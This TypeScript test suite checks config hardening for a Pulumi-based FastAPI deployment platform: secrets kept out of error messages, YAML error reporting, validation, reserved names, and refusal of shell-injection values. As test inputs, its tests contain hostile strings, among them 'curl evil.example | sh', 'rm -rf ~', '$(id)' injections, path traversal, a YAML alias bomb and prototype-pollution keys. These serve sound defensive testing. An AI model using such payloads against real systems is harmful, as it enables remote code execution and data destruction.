import * as assert from "assert";
import { spawnSync } from "child_process";
import { ConfigError } from "../config";
import { cloudSqlTierMaxConnections, rdsClassMaxConnections } from "../config/clouds/db-capacity";
import { shellQuote } from "../components/shell";
import { parseYamlText, checkStackFile, StackFileError } from "../tools/stack-file";
import { planArgumentProblem, validatedEnvironment } from "../tools/plan-input";
import { securePlaceholder } from "../tools/harness";
import { planChild, stagingAppended, stagingWith, validateInProcess, withStackFile } from "./hardening-support";
import { rejected } from "./support";

/**
 * The five root causes of the hostile-user report, one block each: secrets echoed, YAML errors
 * as stack traces, raw values used before validation, platform-owned names not reserved, and
 * unvalidated values reaching shell commands. Each test failed before the fix.
 */
const NS = "fastapi-platform";
const TRACE = /\n\s+at .+:\d+:\d+\)?/;
const SECRET = "hunter2-do-not-print-this-value";

/** Rejected by the program's validation path; returns the message. */
async function refused(stack: string, input: Parameters<typeof validateInProcess>[1]): Promise<string> {
    const error = await validateInProcess(stack, input);
    assert.ok(error, `accepted ${JSON.stringify(input)}; it must be rejected`);
    assert.strictEqual(error.name, "ConfigError", `${error.name}: ${error.message}`);
    assert.doesNotMatch(error.message, TRACE);
    return error.message;
}

async function accepted(stack: string, input: Parameters<typeof validateInProcess>[1]): Promise<void> {
    const error = await validateInProcess(stack, input);
    assert.strictEqual(error, undefined, error?.message);
}

describe("config hardening", function () {
    this.timeout(180000);

    describe("1. a value that is or came from a secret is never printed", () => {
        it("a secure alertEmail is refused as [secret], naming the key, without the value", async () => {
            const message = await refused("prod", { secretOverrides: { alertEmail: SECRET } });
            assert.match(message, new RegExp(`${NS}:alertEmail is \\[secret\\]`));
            assert.match(message, /Only secretEnv holds secrets/);
            assert.ok(!message.includes(SECRET), message);
        });

        it("a malformed secretEnv entry names the key, never the secret", async () => {
            for (const secretEnv of [{ STRIPE_KEY: { nested: SECRET } }, { "bad name": SECRET }, { STRIPE_KEY: `${SECRET}\u0000` }]) {
                const message = await refused("staging", { secretOverrides: { secretEnv } });
                assert.match(message, new RegExp(`${NS}:secretEnv\\.`));
                assert.ok(!message.includes(SECRET) && !message.includes("hunter2"), message);
            }
        });

        it("a secretEnv value is never printed even when the stack forgot --secret", async () => {
            const message = await refused("staging", { overrides: { secretEnv: { STRIPE_KEY: [SECRET] } } });
            assert.match(message, /\[secret\]/);
            assert.ok(!message.includes(SECRET), message);
        });

        for (const [cloud, key] of [["aws", "env"], ["gcp", "tags"], ["azure", "env"], ["kubernetes", "tags"]] as const) {
            it(`${cloud}: a secure value in the plain field ${key} is refused, not landed in plain inputs`, async () => {
                const message = await refused("staging", { overrides: { cloud }, secretOverrides: { [key]: { team: SECRET, TEAM: SECRET } } });
                assert.match(message, new RegExp(`${NS}:${key} is \\[secret\\]: it holds a secure`));
                assert.ok(!message.includes(SECRET), message);
            });
        }

        it("end to end: npm run plan with alertEmail: {secure: ...} exits 1 and prints neither the ciphertext nor the placeholder", async () => {
            const ciphertext = "v1:Zm9vYmFyYmF6cXV4cXV1eA==:c2VjcmV0LWNpcGhlcnRleHQtdmFsdWU=";
            await withStackFile(stagingWith(`  ${NS}:alertEmail:`, `    secure: ${ciphertext}`), (stack) => {
                const { status, stdout, stderr } = planChild(stack);
                assert.strictEqual(status, 1, stderr);
                assert.match(stderr, new RegExp(`${NS}:alertEmail is \\[secret\\]`));
                assert.match(stderr, /No resource was registered/);
                const placeholder = securePlaceholder(`${NS}:alertEmail`);
                for (const text of [stdout, stderr]) assert.ok(!text.includes(ciphertext) && !text.includes(placeholder), text);
            });
        });
    });

    describe("2. YAML problems name the file, the line and the key; exit 1, nothing registered", () => {
        const yamlCases: [string, string, RegExp, number, RegExp][] = [
            ["a duplicate key", "config:\n  fastapi-platform:cloud: aws\n  fastapi-platform:cloud: gcp\n", /same key appears twice/, 3, /config\.fastapi-platform:cloud/],
            ["a tab as indentation", "config:\n\tfastapi-platform:cloud: aws\n", /tab is used for indentation/, 2, /config/],
            ["an unclosed quote", "config:\n  fastapi-platform:image: \"ghcr.io/acme/api:1\n  fastapi-platform:cloud: aws\n", /quote/, 4, /config/],
            ["deep nesting", `config:\n  fastapi-platform:env: ${"[".repeat(20000)}${"]".repeat(20000)}\n`, /levels deep; at most 32/, 2, /config\.fastapi-platform:env/],
            [
                "an alias bomb",
                "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\nconfig: *d\n",
                /aliases/, 2, /b/,
            ],
            ["a prototype key", "config:\n  fastapi-platform:env:\n    __proto__: x\n", /prototype property name/, 3, /config\.fastapi-platform:env\.__proto__/],
        ];
        for (const [title, source, problem, line, key] of yamlCases) {
            it(`${title}: StackFileError at line ${line}`, () => {
                assert.throws(() => parseYamlText(source, "Pulumi.x.yaml"), (error: unknown) => {
                    assert.ok(error instanceof StackFileError, String(error));
                    assert.match(error.message, problem);
                    assert.strictEqual(error.line, line, error.message);
                    assert.match(error.key ?? "", key, error.message);
                    assert.match(error.message, new RegExp(`^Pulumi\\.x\\.yaml:${line}: `));
                    return true;
                });
            });
        }

        it("a top-level `confg:` typo is refused with a did-you-mean, not ignored", () => {
            const source = "confg:\n  fastapi-platform:cloud: aws\n";
            assert.throws(() => checkStackFile(parseYamlText(source, "Pulumi.x.yaml"), "Pulumi.x.yaml", source), /Pulumi\.x\.yaml:1: confg: is not a key of a stack settings file \(did you mean 'config'\?\)/);
        });

        it("a misspelt namespace is refused with a did-you-mean", async () => {
            const message = await refused("staging", { overrides: { "fastapi-platfrom:image": "ghcr.io/acme/api:2", "gpc:region": "europe-west1" } });
            assert.match(message, /fastapi-platfrom:image is in the namespace 'fastapi-platfrom'.*\(did you mean 'fastapi-platform'\?\)/);
            assert.match(message, /gpc:region .*\(did you mean 'gcp'\?\)/);
        });

        it("a misspelt provider setting is refused with a did-you-mean", async () => {
            assert.match(await refused("staging", { overrides: { "aws:regoin": "eu-west-1" } }), /aws:regoin is not a setting of the aws provider this program reads \(did you mean 'region'\?\)/);
            assert.match(await refused("staging", { overrides: { cloud: "gcp", "gcp:projet": "acme-x-staging" } }), /gcp:projet .*\(did you mean 'project'\?\)/);
            await accepted("staging", { overrides: { "aws:profile": "acme", "gcp:zone": "europe-west1-b" } });
        });

        it("ConfigError keeps the message in error.stack and names its stack stackName", () => {
            const error = new ConfigError("staging", [`${NS}:cpu is 3; allowed values: 250`]);
            assert.match(error.stack ?? "", /cpu is 3; allowed values/);
            assert.strictEqual(error.stackName, "staging");
            assert.ok(!Object.hasOwn(error, "stack") || error.stack !== "staging");
        });

        for (const [title, lines] of [
            ["a duplicate key", [`  ${NS}:cloud: gcp`]],
            ["a top-level typo", ["confg:", `  ${NS}:cloud: gcp`]],
        ] as const) {
            it(`end to end: npm run plan on a stack file with ${title} exits 1 with file, line and key, and no trace`, async () => {
                await withStackFile(stagingAppended(...lines), (stack) => {
                    const { status, stdout, stderr } = planChild(stack);
                    assert.strictEqual(status, 1, stderr);
                    assert.match(stderr, new RegExp(`Pulumi\\.${stack}\\.yaml:\\d+: `));
                    assert.match(stderr, /No resource was registered/);
                    assert.doesNotMatch(stderr, TRACE);
                    assert.strictEqual(stdout, "");
                });
            });
        }
    });

    describe("3. raw values are validated before they are used", () => {
        it("the plan's policy level comes from the validated environment", () => {
            assert.strictEqual(validatedEnvironment(" staging"), "staging");
            assert.strictEqual(validatedEnvironment("production"), "production");
            assert.strictEqual(validatedEnvironment("../tsconfig"), undefined);
            assert.strictEqual(validatedEnvironment(undefined), "production");
        });

        it("end to end: environment ../tsconfig is a config error (exit 1), not a policy file read", async () => {
            await withStackFile(stagingWith(`  ${NS}:environment: ../tsconfig`), (stack) => {
                const { status, stderr } = planChild(stack);
                assert.strictEqual(status, 1, stderr);
                assert.match(stderr, new RegExp(`${NS}:environment is '../tsconfig'; allowed values: staging, production`));
                assert.doesNotMatch(stderr, /policy config/);
            });
        });

        it("the plan tool refuses a stack or --cloud argument that is not a name", () => {
            assert.match(planArgumentProblem({ stack: "../Pulumi" }) ?? "", /not a Pulumi stack name/);
            assert.match(planArgumentProblem({ stack: "staging", cloud: "../../tmp/x" }) ?? "", /not a cloud name/);
            assert.strictEqual(planArgumentProblem({ stack: "staging", cloud: "digitalocean" }), undefined, "an unknown cloud is config's business (exit 1)");
            const { status, stderr } = planChild("staging", "--cloud", "aws;id");
            assert.strictEqual(status, 2, stderr);
        });

        it("aws: the capacity rule checks aws.dbInstanceClass, not only dbTier", async () => {
            const message = await refused("staging", { overrides: { cloud: "aws", maxInstances: 10, workerMaxInstances: 4, aws: { dbInstanceClass: "db.t3.micro" } } });
            assert.match(message, new RegExp(`${NS}:aws\\.dbInstanceClass 'db\\.t3\\.micro' allows at most 112`));
            await accepted("staging", { overrides: { cloud: "aws", maxInstances: 20, aws: { dbInstanceClass: "db.r7g.xlarge" } } });
            assert.match(await refused("staging", { overrides: { cloud: "aws", aws: { dbInstanceClass: "db.q9.huge" } } }), /memory \(and so connection ceiling\) is not known/);
        });

        it("gcp: the capacity rule checks gcp.sqlTier, not only dbTier", async () => {
            const message = await refused("staging", { overrides: { cloud: "gcp", gcp: { sqlTier: "db-f1-micro" } } });
            assert.match(message, new RegExp(`${NS}:gcp\\.sqlTier 'db-f1-micro' allows at most 25`));
            await accepted("staging", { overrides: { cloud: "gcp", maxInstances: 20, gcp: { sqlTier: "db-custom-8-32768" } } });
        });

        it("maps classes to the clouds' documented ceilings", () => {
            assert.strictEqual(rdsClassMaxConnections("db.t3.micro"), Math.floor(2 ** 30 / 9531392));
            assert.strictEqual(rdsClassMaxConnections("db.r7g.large"), Math.floor(16 * 2 ** 30 / 9531392));
            assert.strictEqual(rdsClassMaxConnections("db.m7g.16xlarge"), 5000);
            assert.strictEqual(rdsClassMaxConnections("db.t4g.constructor"), undefined);
            assert.strictEqual(cloudSqlTierMaxConnections("db-g1-small"), 50);
            assert.strictEqual(cloudSqlTierMaxConnections("db-custom-4-16384"), Math.floor(16384 * 2 ** 20 / 9531392));
            assert.strictEqual(cloudSqlTierMaxConnections("db-perf-optimized-N-8"), 5000);
        });
    });

    describe("4. names and values the platform owns are reserved", () => {
        for (const name of ["SECRET_KEY", "JWT_SECRET_KEY", "DATABASE_URL", "REDIS_URL"]) {
            it(`env.${name} is refused`, async () => {
                assert.match(await refused("staging", { overrides: { env: { [name]: "plain" } } }), new RegExp(`${NS}:env\\.${name} is`));
            });
        }
        for (const name of ["WEBSITES_PORT", "WEBSITE_SWAP_WARMUP_PING_PATH", "APPLICATIONINSIGHTS_CONNECTION_STRING"]) {
            it(`azure: env.${name} is refused as an App Service platform setting`, async () => {
                assert.match(await refused("staging", { overrides: { cloud: "azure", env: { [name]: "1" } } }), new RegExp(`${NS}:env\\.${name} is an App Service platform setting`));
            });
        }
        for (const tag of ["environment", "managed-by", "project", "stack", "Environment"]) {
            it(`tags.${tag} is refused, not silently replaced`, async () => {
                assert.match(await refused("staging", { overrides: { tags: { [tag]: "x" } } }), new RegExp(`${NS}:tags\\.${tag} is a tag the platform sets`));
            });
        }
        it("prototype-polluting keys are refused at any depth", async () => {
            const own = (name: string, value: unknown) => JSON.parse(`{${JSON.stringify(name)}: ${JSON.stringify(value)}}`);
            assert.match(await refused("staging", { overrides: { env: own("__proto__", "x") } }), new RegExp(`${NS}:env\\.__proto__ is a JavaScript prototype property name`));
            assert.match(await refused("staging", { overrides: { aws: { vpcCidr: own("__proto__", { polluted: true }) } } }), new RegExp(`${NS}:aws\\.vpcCidr\\.__proto__ is a JavaScript prototype`));
            assert.match(await refused("staging", { overrides: { tags: own("constructor", "x") } }), new RegExp(`${NS}:tags\\.constructor is a JavaScript prototype`));
            assert.strictEqual(({} as Record<string, unknown>).polluted, undefined);
        });
        it("reviewStackTtlHours is refused on production", async () => {
            assert.match(await refused("prod", { overrides: { reviewStackTtlHours: 48 } }), new RegExp(`${NS}:reviewStackTtlHours is 48, but a production stack must never destroy itself`));
        });
    });

    describe("5. values that reach commands are validated and quoted", () => {
        for (const [key, value] of [
            ["gcp:region", "europe-west1; curl evil.example | sh"], ["gcp:project", "acme$(id)"], ["aws:region", "eu-west-1 --endpoint-url http://x"],
            ["azure-native:location", "westeurope'; rm -rf ~; '"],
        ] as const) {
            it(`${key} ${JSON.stringify(value)} is refused with the cloud's naming rule`, async () => {
                const cloud = key.startsWith("aws") ? "aws" : key.startsWith("gcp") ? "gcp" : "azure";
                assert.match(await refused("staging", { overrides: { cloud, [key]: value } }), new RegExp(`${key} is '.*'; expected `));
            });
        }
        for (const [cloud, key, cidr] of [["aws", "vpcCidr", "10.300.0.0/16"], ["azure", "vnetCidr", "10.50.0.256/16"], ["gcp", "subnetCidr", "999.1.0.0/20"]] as const) {
            it(`${cloud}.${key} ${cidr} (an octet above 255) is refused`, async () => {
                assert.match(await refused("staging", { overrides: { cloud, [cloud]: { [key]: cidr } } }), new RegExp(`${NS}:${cloud}\\.${key} is '${cidr.replace(/\./g, "\\.")}'; expected`));
            });
        }
        for (const image of ["a::::", "ghcr.io/acme/api:" + "t".repeat(129), "ghcr.io/acme/api@sha256:abc", "ghcr.io/Acme/api:1", "ghcr.io/acme/api:1 $(id)"]) {
            it(`image ${JSON.stringify(image.slice(0, 40))} is refused by the OCI reference grammar`, async () => {
                assert.match(await refused("staging", { overrides: { image } }), new RegExp(`${NS}:image is .*; expected an OCI image reference`));
            });
        }
        it("image references the grammar allows are accepted", async () => {
            for (const image of ["nginx", "localhost:5000/team/api_v2:2024.01-rc1", `ghcr.io/acme/api@sha256:${"a".repeat(64)}`, `ghcr.io/acme/api:${"t".repeat(128)}`]) {
                await accepted("staging", { overrides: { image } });
            }
        });
        it("aws: tag count and lengths beyond AWS's limits are refused", async () => {
            const many = Object.fromEntries([...Array(47).keys()].map((i) => [`team${i}`, "x"]));
            assert.match(await refused("staging", { overrides: { cloud: "aws", tags: many } }), /makes 51, but AWS allows at most 50/);
            assert.match(await refused("staging", { overrides: { cloud: "aws", tags: { team: "v".repeat(257) } } }), new RegExp(`${NS}:tags\\.team is 257 characters long; AWS tag values have at most 256`));
            assert.match(await refused("staging", { overrides: { cloud: "aws", tags: { "aws:owner": "x" } } }), /prefix 'aws:' is reserved/);
            await accepted("staging", { overrides: { cloud: "aws", tags: Object.fromEntries([...Array(46).keys()].map((i) => [`team${i}`, "v".repeat(256)])) } });
        });
        it("shellQuote gives sh back exactly the word, whatever it holds", () => {
            for (const word of ["europe-west1", "a b", "it's", "$(id)", "`id`", "x;y|z&", "'", "\"\\\n"]) {
                const echoed = spawnSync("sh", ["-c", `printf %s ${shellQuote(word)}`], { encoding: "utf8" }).stdout;
                assert.strictEqual(echoed, word);
            }
            assert.strictEqual(shellQuote("europe-west1"), "europe-west1");
        });
    });

    it("rejects a stack whose environment has a leading space the same way on every path", async () => {
        await accepted("staging", { overrides: { environment: " staging" } });
        const message = await rejected("staging", { overrides: { environment: " staging", reviewStackTtlHours: 1, cloud: "aws", tags: { environment: "x" } } });
        assert.match(message, /tags\.environment/);
    });
});
